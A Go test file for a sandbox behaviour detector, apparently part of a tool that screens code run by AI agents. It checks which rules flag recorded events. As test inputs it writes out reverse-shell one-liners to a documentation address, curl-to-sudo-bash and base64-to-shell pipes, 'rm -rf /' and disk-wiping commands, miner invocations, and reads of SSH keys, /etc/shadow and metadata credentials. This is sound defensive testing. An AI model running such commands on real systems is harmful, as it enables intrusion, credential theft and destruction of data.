package behaviour

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/sandbox"
)

// seen reads events, one a line, ten milliseconds after one another:
//
//	action object · argument · argument {canary, canary} <<<data !refused
func seen(t testing.TB, text string) sandbox.Behaviour {
	t.Helper()
	b := sandbox.Behaviour{Recorder: "fake"}
	for line := range strings.Lines(text) {
		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		e := sandbox.Event{Count: 1, First: time.Duration(len(b.Events)+1) * 10 * time.Millisecond}
		line, e.Refused = strings.CutSuffix(line, " !refused")
		if front, data, ok := strings.Cut(line, " <<<"); ok {
			line, e.Data = front, []byte(data)
		}
		if front, ids, ok := strings.Cut(line, " {"); ok {
			line, e.Canaries = front, strings.Split(strings.TrimSuffix(ids, "}"), ", ")
		}
		action, rest, _ := strings.Cut(line, " ")
		parts := strings.Split(rest, " · ")
		e.Action, e.Object = sandbox.Action(action), parts[0]
		if len(parts) > 1 {
			e.Args = parts[1:]
		}
		b.Events = append(b.Events, e)
	}
	return b
}

// project are the files that runs of these tests find.
var project = []string{"/workspace/main.py", "/workspace/lib/a.py", "/workspace/lib/b.py", "/workspace/README.md", "/workspace/data.csv", "/workspace/run.sh", "/workspace/package.json", "/workspace/x.ts"}

func runOf(t testing.TB, kind Kind, events string) Run {
	return Run{
		Kind: kind, Language: gate.LanguagePython, Internet: true, Targets: []string{"/workspace/main.py"}, Input: len(project),
		Has: func(p string) bool { return slices.Contains(project, p) }, Seen: seen(t, events),
	}
}

func rulesOf(fs []gate.Finding) string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule+" "+f.Severity.String())
	}
	slices.Sort(out)
	return strings.Join(out, ", ")
}

const (
	sus = " suspicious"
	dan = " dangerous"
	not = " note"
)

func TestBehaviourRulesFindWhatRunsDo(t *testing.T) {
	for _, tt := range []struct {
		name   string
		kind   Kind
		events string
		want   []string // findings that must be there, as "rule severity"
	}{
		// credentials
		{"a key is read", Script, "read /tmp/.ssh/id_rsa", []string{ruleCredential.ID + sus}},
		{"a key is linked", Script, "link /workspace/x · /tmp/.ssh/id_rsa", []string{ruleCredential.ID + sus}},
		{"a browser's passwords are read", Module, "read /tmp/.config/google-chrome/Default/Login Data", []string{ruleCredential.ID + sus}},
		{"a profile that was not planted is looked for", Script, "read /tmp/.config/BraveSoftware/Default/Cookies", []string{ruleCredential.ID + sus}},
		{"a password file of network clients without any client", Script, "read /tmp/.netrc", []string{ruleCredential.ID + sus}},
		{"a password file of network clients by a client", Script, "read /tmp/.netrc\nresolve A api.example.com\nrequest GET https://api.example.com/", []string{ruleCredential.ID + not, ruleConnection.ID + not}},
		{"a project reads its settings", Script, "read /workspace/.env", []string{ruleCredential.ID + not}},
		{"an install hook reads the project's settings", Hook, "read /workspace/.env", []string{ruleCredential.ID + sus}},
		{"the key of another user", Script, "read /home/alice/.ssh/id_rsa", []string{ruleOtherHome.ID + sus}},
		{"a path of the author's machine", Script, "read /home/alice/data/in.csv", []string{ruleOtherHome.ID + not}},
		{"all homes", Script, "list /home", []string{ruleOtherHome.ID + sus}},
		{"password hashes", Script, "read /etc/shadow", []string{ruleSystemFile.ID + sus}},
		{"the environment of others", Script, "read /proc/1/environ", []string{ruleEnviron.ID + sus}},
		{"settings of a login are changed", Script, "write /tmp/.ssh/config", []string{ruleCredentialWrite.ID + sus}},
		// canaries
		{"a canary in a request", Script, "resolve A example.com\nrequest POST https://example.com/in {ssh rsa key (hex)}", []string{ruleSent.ID + dan, ruleConnection.ID + not}},
		{"a canary in a name", Script, "resolve A abc.example.com {aws key (hex)}", []string{ruleSent.ID + dan, ruleConnection.ID + not}},
		{"a canary in a packet", Script, "traffic 192.0.2.1:99 {aws key}", []string{ruleSent.ID + dan, ruleConnection.ID + not}},
		{"a canary in a mail", Script, "mail a@example.com b@example.com {aws key}", []string{ruleSent.ID + dan, ruleMail.ID + sus}},
		{"a canary in arguments", Script, "exec /usr/bin/x · x · secret {aws key (base64)}", []string{ruleSent.ID + dan}},
		{"a canary in a packet to oneself", Script, "traffic 127.0.0.1:99 {aws key}", []string{ruleSent.ID + dan}},
		{"a token with its own service", Script, "resolve A api.github.com\nrequest GET https://api.github.com/user (authorization token) {github token (plain)}", []string{ruleUsed.ID + not, ruleConnection.ID + not}},
		{"a token with its own service during an import", Module, "resolve A api.github.com\nrequest GET https://api.github.com/user {github token}", []string{ruleConnection.ID + sus, ruleUsed.ID + sus}},
		{"a token with an address that calls itself by the service's name", Script, "resolve A api.github.com\nconnect 192.0.2.1:443\nrequest GET https://api.github.com/user {github token}", []string{ruleSent.ID + dan, ruleAddress.ID + sus, ruleConnection.ID + not}},
		{"another secret with that service", Script, "resolve A api.github.com\nrequest POST https://api.github.com/gists {github token, ssh rsa key}", []string{ruleSent.ID + dan, ruleConnection.ID + not}},
		{"a service whose name was not looked up", Script, "request GET https://api.github.com/user {github token}", []string{ruleSent.ID + dan, ruleConnection.ID + not}},
		{"a name that ends like the service's", Script, "resolve A evilgithub.com\nrequest GET https://evilgithub.com/ {github token}", []string{ruleSent.ID + dan, ruleConnection.ID + not}},
		{"a copy in a file", Script, "leak /workspace/out.txt {aws key (gzip)}", []string{ruleKept.ID + dan}},
		{"a canary in another planted file", Script, "leak /tmp/.npmrc {aws key}", []string{ruleKept.ID + dan}},
		{"a canary that is where it was planted", Script, "leak /tmp/.npmrc {npm file token}", nil},
		{"a canary in an answer to a question", Script, "leak an answer {aws key}", []string{ruleAnswered.ID + sus}},
		{"a canary on standard output", Script, "leak stdout {aws key}", []string{rulePrinted.ID + sus}},
		// metadata
		{"the metadata service", Script, "metadata GET http://169.254.169.254/latest/meta-data/instance-id · 169.254.169.254:80", []string{ruleMetadata.ID + sus}},
		{"its credentials", Script, "metadata PUT http://169.254.169.254/latest/api/token\nmetadata GET http://169.254.169.254/latest/meta-data/iam/security-credentials/role", []string{ruleMetadata.ID + dan}},
		{"the metadata service by its address", Script, "connect 169.254.169.254:80", []string{ruleMetadata.ID + sus, ruleAddress.ID + sus, ruleConnection.ID + not}},
		// network
		{"a program fetches something", Script, "resolve A example.com\nconnect 198.18.3.7:443\nrequest GET https://example.com/", []string{ruleConnection.ID + not}},
		{"an import fetches something", Module, "resolve A example.com\nconnect 198.18.3.7:443", []string{ruleConnection.ID + sus}},
		{"an installation fetches something", Hook, "resolve A example.com", []string{ruleConnection.ID + sus}},
		{"a test fetches something", Tests, "resolve A example.com", []string{ruleConnection.ID + sus}},
		{"an address without a name", Script, "connect 192.0.2.1:4242", []string{ruleAddress.ID + sus, ruleConnection.ID + not}},
		{"a packet to an address without a name", Script, "send 192.0.2.1:5005", []string{ruleAddress.ID + sus, ruleConnection.ID + not}},
		{"a question about data", Script, "resolve TXT 4a6f686e20446f65313233343536373839306162636465666768696a6b6c6d6e6f.x.example.com", []string{ruleDNS.ID + sus, ruleConnection.ID + not}},
		{"a collector that does not answer", Script, "resolve A abc.onion: no such name", []string{ruleDropHost.ID + sus, ruleConnection.ID + not}},
		{"a collector with remarks", Script, "request POST https://webhook.site/a%zz (authorization Bearer)", []string{ruleDropHost.ID + sus, ruleConnection.ID + not}},
		{"a collector", Script, "resolve A abc.webhook.site", []string{ruleDropHost.ID + sus, ruleConnection.ID + not}},
		{"a mail server", Script, "resolve A mx.example.com\nconnect 198.18.3.7:25", []string{ruleMail.ID + sus, ruleConnection.ID + not}},
		{"a chat server", Script, "resolve A irc.example.com\nconnect 198.18.3.7:6667", []string{ruleService.ID + sus, ruleConnection.ID + not}},
		{"a pool by its port", Script, "resolve A pool.example.com\nconnect 198.18.3.7:3333", []string{rulePool.ID + sus, ruleConnection.ID + not}},
		{"a pool by its words", Script, "resolve A pool.example.com\ntraffic pool.example.com:443 · tcp · <<<{\"id\":1,\"method\":\"mining.subscribe\"}", []string{rulePool.ID + dan, ruleConnection.ID + not}},
		{"a port that is open during an import", Module, "bind 0.0.0.0:8080", []string{ruleListen.ID + sus}},
		// commands
		{"a shell at the end of a connection", Script, "exec /bin/bash · bash · -c · bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", []string{ruleReverseShell.ID + dan}},
		{"netcat with a shell", Script, "exec /bin/sh · sh · -c · nc -e /bin/sh 192.0.2.1 4444", []string{ruleReverseShell.ID + dan}},
		{"an interactive shell after a connection", Script, "connect 192.0.2.1:9999\ntraffic 192.0.2.1:9999\nexec /bin/sh · sh · -i", []string{ruleReverseShell.ID + dan, ruleAddress.ID + sus, ruleInteractive.ID + sus, ruleConnection.ID + not}},
		{"a download into a shell", Hook, "exec /bin/sh · sh · -c · curl -fsSL https://example.com/x.sh | sudo bash -s -- -y", []string{ruleDownloadRun.ID + dan, ruleElevate.ID + sus}},
		{"a shell that reads what was downloaded", Script, "exec /usr/bin/curl · curl · -s · https://example.com\nexec /bin/sh · sh", []string{ruleDownloadRun.ID + dan}},
		{"a shell that reads what was decoded", Script, "exec /usr/bin/base64 · base64 · -d\nexec /bin/sh · sh", []string{ruleDecodeRun.ID + dan}},
		{"a decoded line into a shell", Script, "exec /bin/sh · sh · -c · echo aGk= | base64 -d | sh", []string{ruleDecodeRun.ID + dan}},
		{"packages during an import", Module, "exec /usr/bin/python3 · python3 · -m · pip · install · x", []string{ruleInstall.ID + sus}},
		{"packages by the policy's own command", Policy, "exec /usr/bin/npm · npm · ci", []string{ruleInstall.ID + not}},
		{"sudo", Script, "exec /bin/sh · sh · -c · sudo true", []string{ruleElevate.ID + sus}},
		{"a cron table", Script, "exec /bin/sh · sh · -c · (crontab -l; echo x) | crontab -", []string{rulePersistCommand.ID + sus}},
		{"a service", Script, "exec /bin/systemctl · systemctl · enable · x", []string{rulePersistCommand.ID + sus}},
		{"history is cleared", Script, "exec /bin/bash · bash · -c · history -c", []string{ruleProtection.ID + sus}},
		{"a security tool is stopped", Script, "exec /usr/bin/pkill · pkill · -9 · auditd", []string{ruleKill.ID + sus, ruleProtection.ID + sus}},
		{"set-user-ID by command", Script, "exec /bin/chmod · chmod · u+s · /tmp/x", []string{ruleSetUser.ID + dan}},
		{"set-user-ID by call", Script, "mode /tmp/x · 4755", []string{ruleSetUser.ID + dan}},
		{"a disk", Script, "exec /bin/dd · dd · if=/dev/zero · of=/dev/sda", []string{ruleDestroy.ID + dan}},
		{"everything", Script, "exec /bin/rm · rm · -rf · --no-preserve-root · /", []string{ruleDestroy.ID + dan}},
		{"the home of root", Script, "exec /bin/rm · rm · -rf · /root/*", []string{ruleDestroy.ID + dan}},
		{"one folder of the home of root", Script, "exec /bin/rm · rm · -rf · /root/.cache/old", nil},
		{"a miner", Script, "exec /tmp/xmrig · xmrig · -o · stratum+tcp://pool.example.com:3333", []string{ruleMiner.ID + dan, rulePool.ID + dan}},
		{"looking around", Script, "exec /bin/sh · sh · -c · whoami; id; uname -a; hostname; netstat -an", []string{ruleFacts.ID + sus}},
		// dropped
		{"a program that was written", Script, "write /tmp/x\nexec /tmp/x · x", []string{ruleDropped.ID + sus}},
		{"a program that was fetched", Script, "resolve A example.com\nrequest GET https://example.com/x\nwrite /tmp/x\nmode /tmp/x · 755\nexec /tmp/x · x", []string{ruleDropped.ID + dan, ruleConnection.ID + not}},
		{"a script that was fetched", Script, "resolve A example.com\nrequest GET https://example.com/x\nwrite /workspace/x.sh\nexec /bin/sh · sh · x.sh", []string{ruleDropped.ID + dan, ruleConnection.ID + not}},
		{"a program without a file", Script, "memory x\nexec /memfd:x (deleted) · x", []string{ruleMemory.ID + dan}},
		// places
		{"a key that may log in", Script, "write /tmp/.ssh/authorized_keys", []string{ruleLoginKey.ID + dan}},
		{"a shell profile", Script, "write /tmp/.bashrc", []string{ruleStartFile.ID + sus}},
		{"a unit", Script, "write /etc/systemd/system/x.service", []string{ruleStartFile.ID + dan}},
		{"a file that is renamed into place", Script, "write /tmp/y\nrename /tmp/y · /tmp/.profile", []string{ruleStartFile.ID + sus}},
		{"a hook of Git", Script, "write /workspace/.git/hooks/pre-commit", []string{ruleGitHook.ID + sus}},
		{"settings of an agent", Script, "write /workspace/.claude/settings.json", []string{ruleToolFile.ID + sus}},
		{"code that Python always runs", Script, "write /usr/lib/python3/dist-packages/sitecustomize.py", []string{rulePackageFile.ID + dan}},
		{"an index of packages", Script, "write /tmp/.config/pip/pip.conf", []string{rulePackageFile.ID + sus}},
		{"accounts", Script, "write /etc/sudoers.d/x", []string{ruleAccounts.ID + dan}},
		{"the kernel's orders", Script, "write /proc/sys/kernel/core_pattern", []string{ruleHostFile.ID + dan}},
		{"a folder of the system", Script, "write /etc/x.conf", []string{ruleSystemWrite.ID + sus}},
		{"a result where results belong", Script, "write /output/chart.png", nil},
		{"a folder with a like name", Script, "write /outputs/chart.png", []string{ruleOutside.ID + not}},
		{"a log of the machine", Script, "write /var/log/app.log", []string{ruleOutside.ID + not}},
		// deletion
		{"the project", Script, "delete /workspace/lib/a.py\ndelete /workspace/lib/b.py\ndelete /workspace/README.md\ndelete /workspace/data.csv", []string{ruleWipedInput.ID + dan}},
		{"one file of it", Script, "delete /workspace/data.csv", []string{ruleWipedInput.ID + not}},
		{"ransom", Script, "read /workspace/lib/a.py\nwrite /workspace/lib/a.py.locked\ndelete /workspace/lib/a.py\nread /workspace/data.csv\nrename /workspace/data.csv · /workspace/data.csv.locked\n" +
			"read /workspace/README.md\nrename /workspace/README.md · /workspace/README.md.locked\nread /workspace/x.ts\nrename /workspace/x.ts · /workspace/x.ts.locked", []string{ruleRansom.ID + dan}},
		{"its own source", Script, "delete /workspace/main.py", []string{ruleOwnSource.ID + sus, ruleWipedInput.ID + not}},
		{"keys", Script, "delete /tmp/.ssh/id_rsa\ndelete /tmp/.aws/credentials", []string{ruleWipedHome.ID + dan}},
		{"a file of the system", Script, "delete /etc/hosts", []string{ruleWipedSystem.ID + sus}},
		{"its own file that gets its name", Script, "write /var/backups/db/x.dump.part\nrename /var/backups/db/x.dump.part · /var/backups/db/x.dump", []string{ruleOutside.ID + not}},
		{"a file of others that gets another name", Script, "write /srv/y\nrename /srv/x.dump.part · /srv/x.dump", []string{ruleOutside.ID + not, ruleWipedSystem.ID + sus}},
		{"traces", Script, "delete /var/log/syslog", []string{ruleProtection.ID + sus}},
		// calls
		{"another process", Script, "trace process_vm_writev !refused", []string{ruleTrace.ID + dan}},
		{"a debugger is looked for", Script, "trace ptrace !refused", []string{ruleTrace.ID + sus}},
		{"a signal to others", Script, "signal 1 · 9", []string{ruleSignal.ID + sus}},
		{"whether a process exists", Script, "signal 1 · 0", []string{ruleSignal.ID + not}},
		{"a namespace", Script, "namespace unshare !refused", []string{ruleNamespace.ID + sus}},
		{"a mount", Script, "mount mount /mnt !refused", []string{ruleMount.ID + sus}},
		{"the control groups", Script, "mount mount /tmp/cgroup !refused", []string{ruleMount.ID + dan}},
		{"a module", Script, "module init_module !refused", []string{ruleModule.ID + dan}},
		{"another user", Script, "privilege setuid 0", []string{ruleRights.ID + sus}},
		{"a rare call", Script, "kernel bpf !refused", []string{ruleKernel.ID + sus}},
		{"hiding", Script, "hide io_uring_setup !refused", []string{ruleHide.ID + sus}},
		{"a device", Script, "device /tmp/sda · block 8:0 !refused", []string{ruleDevice.ID + sus}},
		{"the engine", Script, "connect unix:/var/run/docker.sock", []string{ruleEngine.ID + sus}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := Findings(runOf(t, tt.kind, tt.events))
			if diff := cmp.Diff(strings.Join(slices.Sorted(slices.Values(tt.want)), ", "), rulesOf(got)); diff != "" {
				t.Error(diff)
			}
			for _, f := range got {
				if f.Evidence == "" || len(f.Evidence) > gate.MaxEvidence || strings.Contains(f.Evidence, "\n") || f.Line != 0 || f.Layer != gate.LayerSandbox {
					t.Errorf("%+v", f)
				}
			}
		})
	}
}

func TestOrdinaryProgramsGiveNothingAboveANote(t *testing.T) {
	for _, tt := range []struct {
		name   string
		kind   Kind
		lang   gate.Language
		events string
	}{
		{"a run of pytest", Tests, gate.LanguagePython, `
			exec /usr/bin/python3 · python3 · -m · pytest · -q · tests/test_a.py
			read /usr/lib/python3/dist-packages/pytest/__init__.py
			read /etc/nsswitch.conf
			read /etc/passwd
			list /workspace
			read /workspace/lib/a.py
			write /workspace/lib/__pycache__/a.cpython-311.pyc
			write /tmp/pytest-of-gate/pytest-0/test_x0/out.txt
			write /tmp/pytest-of-gate/pytest-0/test_x0/run.sh
			mode /tmp/pytest-of-gate/pytest-0/test_x0/run.sh · 755
			exec /bin/sh · sh · /tmp/pytest-of-gate/pytest-0/test_x0/run.sh
			link /tmp/pytest-of-gate/pytest-current · pytest-0
			delete /tmp/pytest-of-gate/pytest-0/test_x0/out.txt
			bind 127.0.0.1:0
			bind 127.0.0.1:41234
			connect 127.0.0.1:41234
			signal 77 · 15
			bind an address of family 16
			send an address of family 16
			connect none
			send 127.0.0.1:53
			resolve A localhost
			resolve PTR 1.0.0.127.in-addr.arpa
			request GET http://127.0.0.1:41234/`},
		{"a test that makes a repository", Tests, gate.LanguagePython, `
			exec /usr/bin/git · git · init · /tmp/pytest-of-gate/pytest-0/r
			write /tmp/pytest-of-gate/pytest-0/r/.git/config
			write /tmp/pytest-of-gate/pytest-0/r/.git/hooks/pre-commit.sample
			exec /usr/bin/git · git · commit · -m · x`},
		{"npm test", Tests, gate.LanguageJavaScript, `
			exec /bin/sh · sh · -c · ( node --test )
			exec /usr/local/bin/node · node · --test
			read /workspace/package.json
			read /proc/meminfo
			read /sys/fs/cgroup/memory.max
			hide io_uring_setup !refused
			write /tmp/node-coverage/x.json
			connect unix:/tmp/node-test.sock
			bind 127.0.0.1:3000
			connect [::1]:3000
			exec /workspace/node_modules/.bin/jest · jest`},
		{"go build and its program", Script, gate.LanguageGo, `
			exec /bin/sh · sh · -c · go build -o /tmp/program "$0" || exit 125; exec /tmp/program "$@" · ./cmd/x
			exec /usr/local/go/bin/go · go · build · -o · /tmp/program · ./cmd/x
			write /tmp/gocache/00/x-d
			write /tmp/go-build123/b001/_pkg_.a
			exec /usr/local/go/pkg/tool/linux_amd64/compile · compile · -o · /tmp/go-build123/b001/_pkg_.a
			exec /usr/local/go/pkg/tool/linux_amd64/link · link
			rename /tmp/go-build123/b001/exe/a.out · /tmp/program
			delete /tmp/go-build123/b001/_pkg_.a
			exec /tmp/program`},
		{"go test", Tests, gate.LanguageGo, `
			exec /usr/local/go/bin/go · go · test · ./...
			write /tmp/go-build9/b001/x.test
			exec /tmp/go-build9/b001/x.test · /tmp/go-build9/b001/x.test · -test.v
			send 127.0.0.1:53
			write /tmp/TestX1/001/a`},
		{"a command that prints its help", Script, gate.LanguagePython, `
			exec /usr/bin/python3 · python3 · main.py · --help
			read /workspace/main.py
			read /usr/share/locale/locale.alias`},
		{"a script that reads its own settings", Script, gate.LanguagePython, `
			read /workspace/data.csv
			read /workspace/.env
			read /tmp/.config/app.toml
			write /workspace/out/report.csv
			exec /usr/bin/git · git · rev-parse · HEAD`},
		{"a web server", Script, gate.LanguagePython, `
			resolve PTR 0.0.0.0.in-addr.arpa
			resolve A sandbox
			bind 0.0.0.0:8080
			write /var/run/app.pid
			write /var/log/app.log`},
		{"temporary files", Script, gate.LanguagePython, `
			write /tmp/tmpabc/x
			rename /tmp/tmpabc/x · /workspace/data.csv
			delete /tmp/tmpabc/x
			write /dev/null
			write /dev/shm/sem.mp-1
			device /tmp/fifo`},
		{"a formatter", Script, gate.LanguagePython, `
			read /workspace/main.py
			write /workspace/main.py
			read /workspace/lib/a.py
			write /workspace/lib/a.py
			read /workspace/lib/b.py
			write /workspace/lib/b.py`},
		{"sed in place", Script, gate.LanguageShell, `
			exec /bin/sed · sed · -i · s/a/b/ · README.md
			read /workspace/README.md
			write /workspace/sedAbC
			mode /workspace/sedAbC · 644
			rename /workspace/sedAbC · /workspace/README.md`},
		{"a virtual environment", Script, gate.LanguagePython, `
			link /tmp/venv/bin/python · /usr/bin/python3
			exec /tmp/venv/bin/python · python · -c · pass`},
		{"its own address", Script, gate.LanguagePython, `connect 8.8.8.8:80`},
		{"a client of an interface", Script, gate.LanguagePython, `
			read /tmp/.netrc
			resolve A api.example.com
			resolve AAAA api.example.com
			connect 198.18.0.5:0
			connect 198.18.0.5:443
			request GET https://api.example.com/v1/items?page=2
			traffic api.example.com:443 · tls`},
		{"names that are only long", Script, gate.LanguagePython, `
			resolve A my-company-internal-gateway.eu-central-1.elb.amazonaws.com
			resolve A production-database-replica-two.cluster.example.com`},
		{"a pipe into a program with something else to do", Script, gate.LanguageShell, `
			exec /bin/sh · sh · -c · curl -s https://example.com/x.json | python3 -m json.tool
			exec /bin/sh · sh · -c · echo e30= | base64 -d | python3 -c "import json,sys; json.load(sys.stdin)"
			exec /bin/sh · sh · -c · cat a | tr ' ' '\n' | sort | uniq -c`},
		{"ordinary commands", Script, gate.LanguageShell, `
			exec /usr/bin/uname · uname · -s
			exec /usr/bin/id · id · -u
			exec /bin/chmod · chmod · 0755 · run.sh
			exec /bin/rm · rm · -rf · /tmp/build-123
			exec /usr/bin/crontab · crontab · -l
			exec /bin/systemctl · systemctl · status · x`},
		{"the lines of a Dockerfile", Hook, gate.LanguageShell, `recipe
			exec /bin/sh · sh · -c · apt-get update && apt-get install -y --no-install-recommends curl && rm -rf /var/lib/apt/lists/*
			delete /var/lib/apt/lists/x
			write /etc/apt/sources.list.d/x.list
			exec /bin/sh · sh · -c · useradd -m app
			write /etc/passwd
			resolve A deb.debian.org
			exec /usr/bin/curl · curl · -fsSLo · /tmp/x.tgz · https://example.com/x.tgz`},
		{"a Makefile", Hook, gate.LanguageShell, `recipe
			exec /usr/bin/make · make · -f · Makefile
			exec /usr/bin/gcc · gcc · -o · prog · a.c
			write /workspace/prog
			exec /workspace/prog · ./prog
			exec /usr/bin/pip · pip · install · -r · requirements.txt`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			events, recipe := strings.CutPrefix(tt.events, "recipe")
			r := runOf(t, tt.kind, events)
			r.Language, r.Recipe = tt.lang, recipe
			if tt.kind != Script {
				r.Targets = []string{"/workspace/tests/test_a.py"}
			}
			for _, f := range Findings(r) {
				if f.Severity != gate.SeverityNote {
					t.Errorf("%s %s: %s", f.Rule, f.Severity, f.Evidence)
				}
			}
		})
	}
}

func TestEvidenceSaysHowOftenAndWhenFirst(t *testing.T) {
	r := runOf(t, Script, "read /tmp/.ssh/id_rsa\nread /tmp/.aws/credentials\nread /tmp/.npmrc")
	r.Seen.Events[0].Count = 3
	r.Targets = append(r.Targets, "/workspace/lib/a.py", "/workspace/lib/b.py")
	f := Findings(r)[0]
	if f.Evidence != "read /tmp/.ssh/id_rsa (3 times, first after 10ms), and 2 more" {
		t.Errorf("evidence %q", f.Evidence)
	}
	if !strings.HasPrefix(f.Message, "when it was run as script together with 2 other changed files, it opened credentials") {
		t.Errorf("message %q", f.Message)
	}
}

func TestCodeThatStandsNowhereIsDecoded(t *testing.T) {
	for literal, want := range map[bool]string{true: ruleDropped.ID + sus, false: ruleDropped.ID + dan} {
		r := runOf(t, Script, "write /tmp/x\nexec /tmp/x · x")
		r.Literal = func([]byte) bool { return literal }
		r.Seen.Captures = []sandbox.Capture{{Path: "/tmp/x", How: "executed after it was written", Data: []byte("#!/bin/sh\nid\n")}}
		if got := rulesOf(Findings(r)); got != want {
			t.Errorf("literal %v: %s", literal, got)
		}
	}
}

func TestLostEventsAreSuspicious(t *testing.T) {
	r := runOf(t, Script, "")
	r.Seen.Lost = 12
	if got := rulesOf(Findings(r)); got != ruleLost.ID+sus {
		t.Error(got)
	}
}

func TestManyAddressesAreASearch(t *testing.T) {
	var b strings.Builder
	for port := range manyPlaces {
		fmt.Fprintf(&b, "connect 192.0.2.1:%d\n", 10000+port)
	}
	if got := rulesOf(Findings(runOf(t, Script, b.String()))); !strings.Contains(got, ruleScan.ID+sus) {
		t.Error(got)
	}
}

func TestManyRandomNamesCarryData(t *testing.T) {
	var b strings.Builder
	for i := range tunnelNames {
		fmt.Fprintf(&b, "resolve A %da9f3c27e81b54d60%d.x.example.com\n", i, i)
	}
	if got := rulesOf(Findings(runOf(t, Script, b.String()))); !strings.Contains(got, ruleDNS.ID+sus) {
		t.Error(got)
	}
}

func TestTheBaselineIsTakenAwayAndCanariesNever(t *testing.T) {
	b := NewBaseline(seen(t, "read /etc/odd\nexec /bin/sh · sh · -c · :\nresolve A example.com {aws key}"))
	rest := b.Without(seen(t, "read /etc/odd\nread /etc/odder\nexec /bin/sh · sh · -c · id\nread /etc/odd {aws key}\nresolve A example.com"))
	var got []string
	for _, e := range rest.Events {
		got = append(got, Text(e))
	}
	want := []string{"read /etc/odder", "exec /bin/sh -c id", "read /etc/odd with <canary: aws key>", "resolve A example.com"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestTheDocumentIsBoundedAndInOrder(t *testing.T) {
	var b strings.Builder
	b.WriteString("read /usr/lib/x\nexec /bin/z · z\nexec /bin/a · a\n")
	for i := range 300 {
		fmt.Fprintf(&b, "read /workspace/%03d\n", i)
	}
	b.WriteString("connect 192.0.2.1:80\n")
	s := seen(t, b.String())
	s.Events[1].First, s.Events[2].First = time.Millisecond, time.Millisecond
	got := Document(s)
	if len(got) != maxShown+1 || got[len(got)-1].Kind != "more" || got[len(got)-1].Count != 303-maxShown {
		t.Fatalf("%d entries, the last %+v", len(got), got[len(got)-1])
	}
	if got[0].Detail != "/bin/a" || got[1].Detail != "/bin/z" || got[maxShown-1] != (gate.Behaviour{Kind: "connect", Detail: "192.0.2.1:80", Count: 1}) {
		t.Errorf("%+v, %+v, %+v", got[0], got[1], got[maxShown-1])
	}
}

func TestRulesAreAllExplainedAndMade(t *testing.T) {
	ids := map[string]bool{}
	for _, r := range Rules() {
		if ids[r.ID] || !strings.Contains(r.ID, "/observed") || r.Severity == gate.SeverityUnknown || r.Title == "" || r.Why == "" || r.Instead == "" {
			t.Errorf("%+v", r)
		}
		ids[r.ID] = true
	}
}

// FuzzFindings feeds any text as any event: nothing panics, everything is
// bounded, and the same run gives the same findings.
func FuzzFindings(f *testing.F) {
	for _, a := range []string{"read", "exec", "connect", "resolve", "request", "rename", "mode", "delete", "leak", "link", "signal", "overwrite"} {
		for _, o := range []string{"", "/", "[::1", "A", "POST http://[::1", "../..", "\x00\xff", "4755", ":0"} {
			f.Add(a, o, "x", int64(1))
		}
	}
	f.Fuzz(func(t *testing.T, action, object, arg string, count int64) {
		r := Run{Kind: Script, Targets: []string{object}, Has: func(p string) bool { return p == arg }}
		r.Seen.Events = []sandbox.Event{
			{Action: sandbox.Action(action), Object: object, Args: []string{arg, object}, Count: count, Data: []byte(arg)},
			{Action: sandbox.Action(action), Object: arg, Canaries: []string{object}, Count: count},
		}
		first := Findings(r)
		for _, x := range first {
			if len(x.Evidence) > gate.MaxEvidence {
				t.Errorf("evidence of %d bytes", len(x.Evidence))
			}
		}
		if diff := cmp.Diff(first, Findings(r)); diff != "" {
			t.Error(diff)
		}
		for _, d := range Document(r.Seen) {
			if len(d.Detail) > gate.MaxEvidence {
				t.Errorf("detail of %d bytes", len(d.Detail))
			}
		}
	})
}
